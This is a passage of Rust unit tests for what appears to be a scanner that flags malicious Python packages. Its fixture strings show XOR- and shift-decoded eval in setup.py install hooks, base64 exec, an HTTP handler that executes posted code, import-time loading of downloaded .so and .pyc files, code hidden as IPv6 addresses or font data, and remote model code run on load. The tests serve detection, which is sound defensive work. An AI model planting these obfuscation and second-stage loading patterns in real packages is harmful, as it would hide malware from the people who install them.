        let code = "from setuptools.command.install import install\nclass I(install):\n    def run(self):\n        s = ''\n        for i in range(len(d)):\n            s += chr(ord(d[i]) ^ ord(k[i % len(k)]))\n        eval(compile(s, '<string>', 'exec'))\n";
        assert!(max_severity("p/setup.py", code, "WH110") >= 0.9);
    }

    #[test]
    fn shift_ciphers_count_as_decoding() {
        let code = "def dec(s):\n    key = ord(s[-1])\n    out = str().join([chr(ord(c) - 2048 - (i + key) % 7) for i, c in enumerate(s[:-1])])\n    return eval(out)\nx = dec(u'abc')\n";
        assert!(max_severity("p/setup.py", code, "WH110") >= 0.8);
        let alphabet = "letters = ''.join(chr(ord('a') + i) for i in range(26))\ndef f(s):\n    return eval(s)\n";
        assert!(max_severity("p/setup.py", alphabet, "WH110") < 0.8);
    }

    #[test]
    fn python2_exec_statement_is_seen() {
        let code = "import base64\nexec base64.b64decode('cHJpbnQoMSk=')\n";
        assert!(max_severity("p/setup.py", code, "WH110") >= 0.9);
    }

    #[test]
    fn version_file_idiom_is_benign() {
        let code = "exec(open('pkg/version.py').read())\n";
        assert!(max_severity("p/setup.py", code, "WH110") <= 0.05);
        let code = "exec(compile(open(vf).read(), vf, 'exec'))\n";
        assert!(max_severity("p/setup.py", code, "WH110") <= 0.05);
        let code = "with open('v.py') as f:\n    src = f.read()\nexec(src)\n";
        assert!(max_severity("p/setup.py", code, "WH110") <= 0.05);
        let code = "def f(expr):\n    return eval(expr, {})\n";
        assert!(max_severity("p/pkg/mod.py", code, "WH110") <= 0.05);
        assert_eq!(
            max_severity("p/pkg/mod.py", "x = compile(src, 'f', 'exec')\n", "WH110"),
            0.0
        );
    }
}

#[cfg(test)]
mod literal_layer_tests {
    use crate::rules::testing::max_severity;

    #[test]
    fn a_web_handler_running_posted_code_is_a_web_shell_unless_it_checks_a_token() {
        let shell = "from http.server import BaseHTTPRequestHandler\nclass H(BaseHTTPRequestHandler):\n    def do_POST(self):\n        exec(self.rfile.read(int(self.headers['Content-Length'])))\n";
        assert!(max_severity("p/pkg/srv.py", shell, "WH110") >= 0.9);
        let fastapi = "from fastapi import FastAPI, Body\napp = FastAPI()\n@app.post('/e')\ndef e(expr: str = Body(...)):\n    exec(expr)\n";
        assert!(max_severity("p/pkg/api.py", fastapi, "WH110") >= 0.9);
        let console = "import hmac\nfrom aiohttp import web\nTOKEN = None\nasync def execute(request):\n    if not hmac.compare_digest(request.headers.get('Authorization', ''), TOKEN):\n        raise web.HTTPForbidden()\n    exec((await request.json())['code'])\n";
        let console_severity = max_severity("p/pkg/console.py", console, "WH110");
        assert!(console_severity > 0.1 && console_severity < 0.3);
    }

    #[test]
    fn the_six_exec_helper_is_not_computed_code() {
        // six on Python 2: a helper runs `exec _code_ in _globs_, _locs_` from a literal, and the
        // module calls it at the top level with another literal.
        let code = "import sys\nif sys.version_info[0] == 3:\n    pass\nelse:\n    def exec_(_code_, _globs_=None, _locs_=None):\n        exec(\"\"\"exec _code_ in _globs_, _locs_\"\"\")\n    exec_(\"\"\"def reraise(tp, value, tb=None):\n    raise tp, value, tb\n\"\"\")\n";
        assert!(max_severity("p/six.py", code, "WH110") < 0.2);
        // The same shape with a decoded payload is still severe.
        let code = "import base64\nexec base64.b64decode('cHJpbnQoMSk=') in globals()\n";
        assert!(max_severity("p/pkg/__init__.py", code, "WH110") >= 0.9);
    }

    #[test]
    fn loaders_of_downloads_reached_through_helpers_and_parameters() {
        // The path comes back from the helper that saved the download.
        let helper = "import sqlite3, urllib.request, os\ndef _fetch():\n    dest = os.path.expanduser('~/.cache/x/fts.so')\n    urllib.request.urlretrieve('https://dl.example.invalid/fts.so', dest)\n    return dest\ndef load(conn):\n    conn.enable_load_extension(True)\n    conn.load_extension(_fetch())\nload(sqlite3.connect(':memory:'))\n";
        assert!(max_severity("p/pkg/__init__.py", helper, "WH110") >= 0.8);
        let pyc = "import importlib.machinery, urllib.request\np = '/tmp/_ops.pyc'\nurllib.request.urlretrieve('https://x.example.invalid/o.pyc', p)\nimportlib.machinery.SourcelessFileLoader('ops', p).load_module()\n";
        assert!(max_severity("p/pkg/__init__.py", pyc, "WH110") >= 0.8);
        let pool = "import multiprocessing, urllib.request\np = '/tmp/worker'\nurllib.request.urlretrieve('https://x.example.invalid/w', p)\nmultiprocessing.get_context('spawn').set_executable(p)\n";
        let found = crate::rules::testing::findings("p/pkg/__init__.py", pool);
        assert!(
            found
                .iter()
                .any(|f| f.rule == "WH110" && f.severity >= 0.8 && f.message.contains(" starts `")),
            "{found:?}"
        );
        // A bundled extension is no download.
        let bundled = "import os\ndef load(conn):\n    conn.load_extension(os.path.join(os.path.dirname(__file__), 'fts5.so'))\n";
        assert_eq!(max_severity("p/pkg/__init__.py", bundled, "WH110"), 0.0);
    }

    #[test]
    fn code_packed_as_addresses_or_in_a_data_file_is_decoded_code() {
        let ipv6 = "import ipaddress\nfrom .table import ROWS\ndef _pack(rows):\n    return b''.join(ipaddress.IPv6Address(a).packed for a in rows)\nexec(_pack(ROWS).rstrip(b'\\0'))\n";
        let found = crate::rules::testing::findings("p/pkg/__init__.py", ipv6);
        assert!(
            found.iter().any(|f| f.rule == "WH110"
                && f.severity >= 0.8
                && f.message
                    .contains("decoded by ipaddress.IPv6Address().packed")
                && !f.message.contains("decoded by data decoded by")),
            "{found:?}"
        );
        let font = "import zlib\ndef _tables(p):\n    return open(p, 'rb').read()\nblob = _tables('f.ttf')\nprog = zlib.decompress(blob[8:])\nexec(prog)\n";
        assert!(max_severity("p/pkg/__init__.py", font, "WH110") >= 0.8);
        // A version file read and run is the setup-script idiom.
        let version = "exec(open('pkg/_version.py').read())\n";
        assert!(max_severity("p/setup.py", version, "WH110") < 0.1);
    }

    #[test]
    fn model_hub_code_run_while_loading_is_a_second_stage() {
        let hub = "import torch\nm = torch.hub.load('someone/yolov5:master', 'yolov5s', trust_repo=True)\n";
        assert!(max_severity("p/pkg/__init__.py", hub, "WH110") >= 0.7);
        let remote = "from transformers import AutoModel\nm = AutoModel.from_pretrained('someone/embed', trust_remote_code=True)\n";
        assert!(max_severity("p/pkg/__init__.py", remote, "WH110") >= 0.7);
        // Asked for by the user, pinned to a release, or without remote code: no second stage.
        let called = "import torch\ndef get(name):\n    return torch.hub.load('someone/yolov5:master', name)\n";
        assert!(max_severity("p/pkg/__init__.py", called, "WH110") < 0.1);
        let pinned = "import torch\nm = torch.hub.load('pytorch/vision:v0.17.2', 'resnet50')\n";
        assert!(max_severity("p/pkg/__init__.py", pinned, "WH110") < 0.3);
        let weights = "from transformers import AutoModel\nm = AutoModel.from_pretrained('bert-base-uncased')\n";
        assert_eq!(max_severity("p/pkg/__init__.py", weights, "WH110"), 0.0);
    }
}
